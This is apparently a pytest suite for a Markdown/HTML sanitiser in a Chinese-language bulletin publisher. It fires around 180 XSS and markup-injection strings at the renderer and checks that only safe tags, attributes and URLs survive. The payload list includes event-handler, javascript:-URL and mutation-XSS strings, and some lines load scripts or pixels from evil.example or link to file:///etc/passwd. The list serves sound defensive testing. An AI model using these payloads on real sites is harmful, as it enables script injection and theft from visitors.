"""An attack collection: whatever a correspondent types, the page can only be read."""

from __future__ import annotations

import re
from html import unescape
from typing import Any

import html5lib
import nh3
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bulletin.convert.markup import sanitise
from bulletin.convert.markup.marks import HIDDEN
from bulletin.convert.markup.render import Markup, render_markup
from bulletin.model.item import Photo, Variant

PHOTO = Photo("a.jpg", "ab", 800, 600, (), (Variant("/photos/ab-480.jpg", 480, 360, "JPEG"),))
ALLOWED_TAGS = {*sanitise.TAGS, "picture", "source"}
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "data", "poster", "background", "cite", "xlink:href"}
OWN_ATTRIBUTES = {
    "href", "src", "srcset", "sizes", "alt", "title", "class", "id", "lang", "dir", "rel", "colspan", "rowspan", "span",
    "scope", "start", "value", "datetime", "open", "data-no-convert", "role", "tabindex", "aria-label", "loading",
    "fetchpriority", "decoding", "width", "height", "type",
}  # fmt: skip
URL = re.compile(r"(?:https?://[^/\s]|mailto:|tel:|edition:2026/|/photos/|/files/|#c-)")

ATTACKS = [
    # script and its kin
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "</p><script>alert(1)</script><p>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<listing><img onerror=alert(1) src=x></listing>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<object type='text/x-scriptlet' data='//evil.example'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code=x></applet>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<isindex action=javascript:alert(1) type=image>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<body onload=alert(1)>",
    "<html onmouseover=alert(1)>",
    "<portal src='javascript:alert(1)'></portal>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    # event handlers and attributes
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">',
    "<p onclick=alert(1)>x</p>",
    "<p ONCLICK='alert(1)'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<td background=javascript:alert(1)>x</td>",
    "<a href=x autofocus onfocus=alert(1)>x</a>",
    "<a href='#' ping='//evil.example'>x</a>",
    "<a href='https://a.example' target=_blank>x</a>",
    "<a href='https://a.example' download=x>x</a>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "<time datetime='\" onclick=alert(1)'>x</time>",
    "<ol start='1 onclick=alert(1)'><li>x</ol>",
    "<p id=body name=cookie>x</p>",
    "<a id=document.cookie name=location>x</a>",
    "<img name=getElementById src=a.jpg>",
    "<p data-bind='alert(1)' x-on:click=alert(1) @click=alert(1) ng-click=alert(1)>x</p>",
    "<p tabindex=1 accesskey=x contenteditable>x</p>",
    "<p slot=x is=y part=z itemprop=q>x</p>",
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&NewLine;script&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&#58;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](intent://evil.example#Intent;scheme=http;end)",
    "[x](edition:2026/../../evil)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/\\evil.example)",
    "[x](/\t/evil.example)",
    "[x](https:evil.example)",
    "[x](http:///evil.example)",
    "[x](/admin/delete)",
    "[x](../../secret)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]: <javascript:alert(1)>",
    "[x][y]\n\n[y]: data:text/html,x \"t\"",
    "<javascript:alert(1)>",
    "<javascript://x%0aalert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='\x00javascript:alert(1)'>x</a>",
    "<a href='edition:2026/x'>x</a>",
    "<a href='tel:1\" onclick=alert(1)'>x</a>",
    "<a href='mailto:a@b.example?body=\"><script>alert(1)</script>'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](https://img.example@evil.example/x.gif)",
    "![x](https://img.example.evil.example/x.gif)",
    "![x](http://img.example/x.gif)",
    "![x](https://img.example:444/x.gif)",
    "<img src=a.jpg srcset='//evil.example/x 1x'>",
    "<img src=a.jpg srcset='javascript:alert(1) 1x' sizes=x>",
    "<img src='https://evil.example/x' onload=alert(1)>",
    "<picture><source srcset='//evil.example/x'><img src=a.jpg></picture>",
    # quotes and angle brackets where the preset writes attributes itself
    '![" onerror="alert(1)](a.jpg)',
    '![x](a.jpg "\\" onerror=\\"alert(1)")',
    "![x](a.jpg '\" onerror=\"alert(1)')",
    "![<script>alert(1)</script>](a.jpg)",
    '![<b>"x"</b>](a.jpg "<script>alert(1)</script>")',
    '![[a.jpg|" onerror="alert(1)]]',
    "![[javascript:alert(1)|x]]",
    '![" onerror="alert(1)](missing.jpg)',
    '![" onclick="alert(1)](https://evil.example/x)',
    '[x](https://a.example/"onclick="alert(1))',
    "[x](https://a.example/'onclick='alert(1))",
    "https://a.example/\"onmouseover=\"alert(1)",
    "<https://a.example/\"onmouseover=\"alert(1)>",
    '[x](known.md "\\" onclick=\\"alert(1)")',
    "# x {onclick=alert(1)}",
    "# x {#a\" onclick=\"alert(1)}",
    "# x {.a style=x title=\"><script>alert(1)</script>\"}",
    "# <script>alert(1)</script>",
    "# \" onclick=\"alert(1)",
    "段落\n{: onclick=\"alert(1)\" style=\"x\"}",
    "[x](https://a.example){onclick=alert(1) target=_blank}",
    "[x]{lang=\"\\\" onclick=alert(1)\"}",
    "[x]{lang=en onclick=alert(1)}",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onclick=alert(1)\n<script>alert(1)</script>\n```",
    "``` {.x onclick=alert(1)}\nx\n```",
    "`<script>alert(1)</script>`",
    "[^<script>]\n\n[^<script>]: x",
    "[^\"onclick=\"x]\n\n[^\"onclick=\"x]: <img src=x onerror=alert(1)>",
    "{荥|<script>alert(1)</script>}",
    "{荥|\" onclick=\"alert(1)}",
    "{<img src=x onerror=alert(1)>|·}",
    "::: 附件 <script>alert(1)</script>\nx\n:::",
    "::: 附件 \" onclick=\"alert(1)\nx\n:::",
    "::: details <img src=x onerror=alert(1)>\nx\n:::",
    "::: 引文 <script>alert(1)</script>\nx\n:::",
    "::: 原文 en\" onclick=\"alert(1)\nx\n:::",
    "::: 原文 lang=en onclick=alert(1)\nx\n:::",
    "::: <script>alert(1)</script>\nx\n:::",
    "::: 联系方式\n0571-64650989\" onclick=\"alert(1)\n<img alt=13800138000 src=a.jpg>\n:::",
    "表：<script>alert(1)</script>\n\n| a |\n|---|\n| b |",
    '表：" onclick="alert(1)\n\n| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | b |',
    "| a | b |\n|---|---|\n| ^^ | <script>alert(1)</script> |",
    "![x](a.jpg)\n图为<script>alert(1)</script>",
    # what one parser reads otherwise than another
    "<table><td><a><table><td><a href=javascript:alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<p title=\"--><img src=x onerror=alert(1)>\">x</p><!--",
    "<a title=\"`><img src=x onerror=alert(1)>\">x</a>",
    "<p title='&lt;script&gt;alert(1)&lt;/script&gt;'>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)\\</script>",
    "&#2;wzxhzdk:0&#3; \x02wzxhzdk:0\x03 <b>x</b>",
    "\x02klzzwxh:0000\x03 **x**",
    "\x02amp\x03lt;script>",
    "<b\x00r onclick=alert(1)>",
    "<ſcript>alert(1)</ſcript>",
    "<a href=https://a.example><a href=https://b.example><b><p>x</a></b>",
    "<ruby><rt><script>alert(1)</script></rt></ruby>",
    "<details><summary><script>alert(1)</script></summary></details>",
    "<table><caption><svg onload=alert(1)></caption></table>",
    "<p class='table\" onclick=alert(1)'>x</p>",
    "<section class='attachment' id='\"><script>alert(1)</script>'><h2>x</h2></section>",
    "\u202e<img src=x onerror=alert(1)>",
]  # fmt: skip


def publish(body: str) -> str:
    markup = render_markup(
        "a.md",
        body,
        first_line=1,
        links={"known.md": "2026/09/x/", "a.xlsx": "/files/ab/a.xlsx"},
        photos={"a.jpg": PHOTO},
        image_hosts=("img.example",),
    )
    return markup.html


def parse(html: str) -> Any:
    """Strict: any error of the HTML syntax is raised."""
    page = f"<!DOCTYPE html><html lang=zh-Hans><head><title>x</title></head><body><main>{html}</main></body></html>"
    return html5lib.HTMLParser(strict=True, namespaceHTMLElements=False).parse(page).find("body")


def assert_harmless(html: str) -> None:
    for element in parse(html).iter():
        assert element.tag in {*ALLOWED_TAGS, "body", "main"}
        for name, value in element.attrib.items():
            assert name in OWN_ATTRIBUTES
            if name in URL_ATTRIBUTES:
                for part in value.split(", ") if name == "srcset" else [value]:
                    assert URL.match(part), (name, value)
            if name == "id":
                assert value.startswith("c-")
            if element.tag == "img" and name == "src":
                assert value.startswith(("/photos/", "https://img.example/"))
            if name == "class":
                assert set(value.split()) <= {*sanitise.CLASSES, "missing", "table"} or value.startswith("language-")


def test_the_collection_is_large_and_without_repetition() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) >= 180


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs(attack: str) -> None:
    assert_harmless(publish(attack))


@pytest.mark.parametrize(
    "frame", ["正文{}正文", "- {}", "> {}", "## {}", "| {} | b |\n|---|---|\n| {} | c |", "::: 附件 甲\n{}\n:::",
              "**{}**", "[{}](https://a.example)", "甲[^1]\n\n[^1]: {}", "<div>{}</div>"]
)  # fmt: skip
def test_nothing_runs_wherever_it_stands(frame: str) -> None:
    for attack in ATTACKS:
        assert_harmless(publish(frame.replace("{}", attack)))


PIECES = st.sampled_from(
    [*ATTACKS, "<", ">", '"', "'", "=", "/", "`", "&", ";", "\n", "\n\n", " ", "甲", "](", "![", ")", "</p>", "<p>",
     "<a>", "<table>", "<tr>", "<td>", "</table>", "<ruby>", "<rt>", "<b>", "</b>", "<ul>", "<li>", "<figure>",
     "<details>", "<summary>", "<col>", "<caption>", "<svg>", "<math>", "<style>", "<!--", "-->",
     "<h2>", "<dl>", "<dt>"]
)  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(st.lists(PIECES, max_size=8))
def test_nothing_runs_in_any_mixture(pieces: list[str]) -> None:
    assert_harmless(publish("".join(pieces)))


def test_a_sanitiser_that_fails_lets_nothing_through(monkeypatch: pytest.MonkeyPatch) -> None:
    class Panic(BaseException):
        """As nh3's PanicException, which is not an Exception."""

    def panic(_html: str) -> str:
        raise Panic

    class Broken:
        def __init__(self, **_settings: object) -> None:
            self.clean = panic

    sanitise._cleaner.cache_clear()
    monkeypatch.setattr(nh3, "Cleaner", Broken)
    try:
        markup = render_markup("a.md", "**甲** <b>乙</b>", first_line=1, links={}, photos={}, image_hosts=())
    finally:
        sanitise._cleaner.cache_clear()
    assert [p.code for p in markup.problems] == ["E607"]
    assert markup.html == "<p>**甲** &lt;b&gt;乙&lt;/b&gt;</p>"


def test_a_sanitiser_that_lets_something_through_is_not_used(monkeypatch: pytest.MonkeyPatch) -> None:
    class Lax:
        def __init__(self, **_settings: object) -> None:
            pass

        def clean(self, html: str) -> str:
            return html

    sanitise._cleaner.cache_clear()
    monkeypatch.setattr(nh3, "Cleaner", Lax)
    try:
        markup = render_markup("a.md", "<script>x</script>", first_line=1, links={}, photos={}, image_hosts=())
    finally:
        sanitise._cleaner.cache_clear()
    assert "<script" not in markup.html
    assert "<script>x</script>" in unescape(markup.html)


def test_words_of_a_dropped_link_stay() -> None:
    assert publish("见[通知](javascript:alert(1))。") == "<p>见通知。</p>"


def _rendered(body: str) -> Markup:
    return render_markup("a.md", body, first_line=1, links={"/x.html": "/x.html"}, photos={}, image_hosts=())


@pytest.mark.parametrize(
    "reference", ["&#x202e;", "&#8238;", "&rlm;", "&lrm;", "&ZeroWidthSpace;", "&#x2028;", "&#x2066;", "&NoBreak;"]
)
@pytest.mark.parametrize(
    "text",
    ["甲{0}乙", "## 甲{0}乙", '[甲](/x.html "{0}乙")', '<abbr title="甲{0}">乙</abbr>', "|甲{0}|\n|-|\n|乙|",
     "甲[^1]\n\n[^1]: {0}乙"],
)  # fmt: skip
def test_references_bring_nothing_that_misleads(text: str, reference: str) -> None:
    """What reading takes away as a character (W208, W209) does not come back as a reference; it is told likewise."""
    markup = _rendered(text.format(reference))
    assert not HIDDEN.search(markup.html)
    assert [(one.code, one.line) for one in markup.problems if one.code == "W208"]


@pytest.mark.parametrize("text", ["甲&#0;乙", "甲&#xD800;乙", "甲&#xFFFD;乙"])
def test_a_lost_character_is_shown_as_such(text: str) -> None:
    assert "甲□乙" in _rendered(text).html


@pytest.mark.parametrize("text", ["`&#x202e;`", "长&shy;词", "کتاب&zwnj;ها", "A&amp;B"])
def test_references_that_are_meant(text: str) -> None:
    assert not [one for one in _rendered(text).problems if one.code == "W208"]
